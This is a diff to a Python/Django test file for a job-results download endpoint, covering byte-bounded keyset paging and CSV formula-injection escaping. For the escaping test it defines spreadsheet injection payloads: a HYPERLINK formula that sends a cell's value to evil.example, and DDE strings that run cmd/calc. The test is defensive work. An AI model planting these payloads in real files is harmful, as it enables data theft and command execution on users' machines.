@@ -1,24 +1,40 @@
 """`GET /api/jobs/{id}/results.jsonl` and `.csv`: every call of a job in index order, bodies as
-the call pages give them, streamed from a cursor; another user's job is a 404."""
+the call pages give them, read in pages and streamed; text a spreadsheet would run is inert in
+CSV; another user's job is a 404."""
 
 from __future__ import annotations
 
 import base64
+import contextlib
 import csv
 import io
 import json
+import math
+import threading
+from collections.abc import Iterator
 from datetime import UTC, datetime
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 
 import pytest
 from django.db import connection
 from django.http import StreamingHttpResponse
 from django.test.utils import CaptureQueriesContext
+from django.utils import timezone
+from psycopg import pq
 
 from ratejobs.models import Call, Job
 from ratejobs.selectors import results
-from ratejobs.selectors.results import RESULT_FIELDS
+from ratejobs.services.calls import call_execute
+from ratejobs.services.credentials import credentials_add
 
+# The columns as the README's export section documents them, in their order: the file's
+# contract, written out here rather than taken from the code that writes it.
+COLUMNS = [
+    "index", "method", "path", "status", "status_code", "attempts", "duration", "cost",
+    "cost_used", "error", "response_body", "response_body_base64", "response_truncated",
+    "response_removed_at", "credential_key",
+]  # fmt: skip
 REMOVED_AT = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
 BINARY = b"\xff\xfe\x00\x01"
 # What each call of results_job ended with, and the row each must give.
@@ -89,7 +105,7 @@ def expected_rows() -> list[dict[str, Any]]:
             "credential_key": "",
             **shown,
         }
-        rows.append({name: row[name] for name in RESULT_FIELDS})
+        rows.append({name: row[name] for name in COLUMNS})
     return rows
 
 
@@ -125,7 +141,7 @@ def test_csv_gives_a_header_and_the_same_rows_empty_for_null(api_client, results
         f'attachment; filename="job-{results_job.pk}-results.csv"'
     )
     table = list(csv.reader(io.StringIO(content(response).decode(), newline="")))
-    assert table[0] == list(RESULT_FIELDS)
+    assert table[0] == COLUMNS
 
     def as_csv(value: Any) -> str:
         if value is None:
@@ -134,7 +150,7 @@ def test_csv_gives_a_header_and_the_same_rows_empty_for_null(api_client, results
             return "true" if value else "false"
         return str(value)
 
-    assert table[1:] == [[as_csv(row[name]) for name in RESULT_FIELDS] for row in expected_rows()]
+    assert table[1:] == [[as_csv(row[name]) for name in COLUMNS] for row in expected_rows()]
 
 
 def test_another_users_job_is_a_404_and_a_job_being_purged_is_gone(
@@ -157,14 +173,14 @@ def test_an_accept_header_asking_for_the_file_type_gets_the_file(api_client, res
 
 
 @pytest.mark.parametrize("suffix", ["jsonl", "csv"])
-def test_the_download_streams_from_one_query_however_many_calls(
-    api_client, make_job, settings, monkeypatch, suffix
+def test_the_download_reads_the_calls_in_keyset_pages_bounded_by_bytes(
+    api_client, make_job, monkeypatch, suffix
 ):
-    # given: bodies up to 64 MiB, so the cursor fetches the fewest rows at a time (16): 500
-    # calls take many fetches, and pieces of 1 KiB many writes
-    settings.RATEJOBS_MAX_RESPONSE_BYTES = 64 * 1024 * 1024
+    # given: a budget of 400 bytes a page, so bodies of 40 bytes come 10 a page (the 11th is
+    # past it): 500 calls take 50 pages, each after the first asking for 20 calls (twice what
+    # the one before kept); and pieces of 1 KiB, many writes
+    monkeypatch.setattr(results, "PAGE_BUDGET_BYTES", 400)
     monkeypatch.setattr(results, "PIECE_BYTES", 1024)
-    counts = []
     for calls in (5, 500):
         job = make_job(calls=calls)
         Call.objects.filter(job=job).update(status="succeeded", response_body=b"x" * 40)
@@ -173,25 +189,152 @@ def test_the_download_streams_from_one_query_however_many_calls(
             pieces = list(response.streaming_content)
         assert isinstance(response, StreamingHttpResponse)
         assert b"".join(pieces).count(b"x" * 40) == calls
-        counts.append(len(queries))
-    assert counts[0] == counts[1]
+        # expect: one short statement a page, each but the first after the last index read
+        pages = [query["sql"] for query in queries if 'FROM "ratejobs_call"' in query["sql"]]
+        assert len(pages) == math.ceil(calls / 10)
+        assert pages[0].endswith(f"LIMIT {results.PAGE_ROWS}")
+        assert all(sql.endswith("LIMIT 20") for sql in pages[1:])
+        assert all('"ratejobs_call"."index" > ' in sql for sql in pages[1:])
     assert len(pieces) > 10  # written as it is read, not at the end
 
 
+def test_a_page_holds_the_budget_and_one_body_more_at_most(make_job, monkeypatch):
+    # given: a budget of 1,000 bytes; bodies of 300, 300, 300, 300 (the 4th crosses it), 50,
+    # 5,000 (alone more than the budget), then 10 calls without one
+    monkeypatch.setattr(results, "PAGE_BUDGET_BYTES", 1000)
+    job = make_job(calls=16)
+    sizes = [300, 300, 300, 300, 50, 5000]
+    for index, size in enumerate(sizes):
+        Call.objects.filter(job=job, index=index).update(response_body=b"b" * size)
+    # expect: a page ends with the body that crosses the budget (1,200 bytes, then 5,050: at
+    # most the budget and one body), and the bodies after it are read by the next one, which
+    # asks for twice the calls the one before kept (8, then 4, then 8)
+    read: list[tuple[int, int]] = []  # (index, statements run when it came)
+    with CaptureQueriesContext(connection) as queries:
+        for row in results.call_result_rows(job):
+            read.append((row[0], len(queries)))
+    assert [index for index, _ in read] == list(range(16))
+    assert [statements for _, statements in read] == [1] * 4 + [2] * 2 + [3] * 4 + [4] * 6
+    bodies = [
+        dict(zip(COLUMNS, row, strict=True))["response_body"]
+        for row in results.call_result_rows(job)
+    ]
+    assert [len(body or "") for body in bodies] == sizes + [0] * 10
+
+
 @pytest.mark.django_db(transaction=True)
-@pytest.mark.postgresql  # pg_cursors
-def test_postgresql_reads_the_calls_through_a_cursor_inside_a_transaction(make_job, settings):
-    # given: autocommit, as in a web request; a cursor declared WITH HOLD there would make the
-    # server compute every row before the first
-    settings.RATEJOBS_MAX_RESPONSE_BYTES = 64 * 1024 * 1024
-    job = make_job(calls=200)
-    rows = results.call_result_rows(job)
-    assert next(rows)[0] == 0
-    with connection.cursor() as cursor:
-        cursor.execute("SELECT is_holdable FROM pg_cursors")
-        assert [held for (held,) in cursor.fetchall()] == [False]
-    assert sum(1 for _ in rows) == 199
-    assert connection.get_autocommit()  # the transaction ended with the rows
+@pytest.mark.postgresql  # pg_cursors, and the session's transaction status
+def test_between_pages_the_connection_holds_no_transaction_and_no_cursor(make_job, monkeypatch):
+    # given: autocommit, as in a web request, and pages of 16 rows
+    monkeypatch.setattr(results, "PAGE_ROWS", 16)
+    job = make_job(calls=40)
+    with contextlib.closing(results.call_result_rows(job)) as rows:
+        for index in range(40):
+            # expect: while the caller holds a row (a client reading slowly), nothing is open
+            assert next(rows)[0] == index
+            assert not connection.in_atomic_block
+            assert connection.connection.info.transaction_status == pq.TransactionStatus.IDLE
+            with connection.cursor() as cursor:
+                cursor.execute("SELECT count(*) FROM pg_cursors")
+                assert cursor.fetchone() == (0,)
+        assert next(rows, None) is None
+
+
+# What a spreadsheet would run (OWASP "CSV Injection"), a call each: the path a submitter gave,
+# what the API answered, and the two as CSV cells. A formula for each character that starts one
+# (no tab or CR in a path: paths have no control characters), a negative number, a binary body
+# whose base64 starts with "+", and text with those characters further on, left alone.
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+INJECTIONS: list[tuple[str, bytes, str, str]] = [
+    (HYPERLINK, HYPERLINK.encode(), "'" + HYPERLINK, "'" + HYPERLINK),
+    ("+1", b"+1+cmd|' /C calc'!A0", "'+1", "'+1+cmd|' /C calc'!A0"),
+    ("-1", b"-1", "'-1", "'-1"),
+    ("@SUM(1+1)", b"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("/tab", b"\t=1+1", "/tab", "'\t=1+1"),
+    ("/cr", b"\r=1+1", "/cr", "'\r=1+1"),
+    ("/binary", b"\xfb\xff", "/binary", "'+/8="),
+    ("/a=1+1", b"plain, = + - @ later on", "/a=1+1", "plain, = + - @ later on"),
+]
+KEY = "-staging"  # a credential key may start with "-"
+
+
+class _Answering(BaseHTTPRequestHandler):
+    """An API answering each request with the INJECTIONS body its X-Answer header names."""
+
+    protocol_version = "HTTP/1.1"
+
+    def do_GET(self) -> None:
+        body = INJECTIONS[int(self.headers["X-Answer"])][1]
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
+        pass
+
+
+@pytest.fixture
+def answering_api() -> Iterator[str]:
+    """The base URL of an _Answering API on a real socket."""
+    server = ThreadingHTTPServer(("127.0.0.1", 0), _Answering)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_address[1]}"
+    server.shutdown()
+    server.server_close()
+
+
+@pytest.fixture
+def injection_job(api_client, make_api, answering_api) -> Job:
+    """The INJECTIONS submitted through the REST API with KEY, each call sent to the answering
+    API and recorded as a worker does; the first call's error text quotes a formula."""
+    api = make_api(base_url=answering_api)
+    credentials_add(api=api, items=[(KEY, "secret-of-staging")])
+    calls = [
+        {"path": path, "headers": {"X-Answer": str(i)}} for i, (path, *_) in enumerate(INJECTIONS)
+    ]
+    created = api_client.post(
+        "/api/jobs/",
+        {"api": api.name, "name": "formulas", "credential_key": KEY, "calls": calls},
+        format="json",
+    )
+    assert created.status_code == 201, created.json()
+    job = Job.objects.get(pk=created.json()["id"])
+    for call in Call.objects.filter(job=job).order_by("index"):
+        Call.objects.filter(pk=call.pk).update(dispatched_at=timezone.now())
+        assert call_execute(call_id=call.pk) == "succeeded"
+    # no error text of ours starts a formula today, but one may quote what an API said
+    Call.objects.filter(job=job, index=0).update(error="@SUM(1+1) said the API")
+    return job
+
+
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote_and_jsonl_keeps_them(
+    api_client, injection_job
+):
+    url = f"/api/jobs/{injection_job.pk}/results"
+    rows = [json.loads(line) for line in content(api_client.get(f"{url}.jsonl")).splitlines()]
+    text = content(api_client.get(f"{url}.csv")).decode()
+    table = list(csv.reader(io.StringIO(text, newline="")))
+    assert table[0] == COLUMNS
+    cells = [dict(zip(COLUMNS, line, strict=True)) for line in table[1:]]
+    # expect: JSON lines give every value exactly as it came
+    assert [(row["path"], row["response_body"], row["credential_key"]) for row in rows] == [
+        (path, base64.b64encode(body).decode() if path == "/binary" else body.decode(), KEY)
+        for path, body, *_ in INJECTIONS
+    ]
+    assert rows[0]["error"] == "@SUM(1+1) said the API"
+    # and CSV puts a ' before each text cell that starts a formula, and before nothing else
+    assert [(cell["path"], cell["response_body"], cell["credential_key"]) for cell in cells] == [
+        (path_cell, body_cell, "'-staging") for _, _, path_cell, body_cell in INJECTIONS
+    ]
+    assert cells[0]["error"] == "'@SUM(1+1) said the API"
+    assert {(cell["method"], cell["status"], cell["status_code"]) for cell in cells} == {
+        ("GET", "succeeded", "200")
+    }
+    # the base64 body decodes to the same bytes once its ' is taken off
+    assert cells[6]["response_body_base64"] == "true"
+    assert base64.b64decode(cells[6]["response_body"].removeprefix("'")) == b"\xfb\xff"
 
 
 def test_the_schema_documents_both_files_with_their_media_types(client_for):
@@ -202,3 +345,5 @@ def test_the_schema_documents_both_files_with_their_media_types(client_for):
         assert "Content-Disposition" in operation["responses"]["200"]["headers"]
         assert {"401", "404"} <= set(operation["responses"])
         assert "response_body_base64" in operation["description"]
+    csv_file = schema["paths"]["/api/jobs/{job_id}/results.csv"]["get"]["description"]
+    assert "=, +, -, @, a tab or a carriage return is written with a leading '" in csv_file
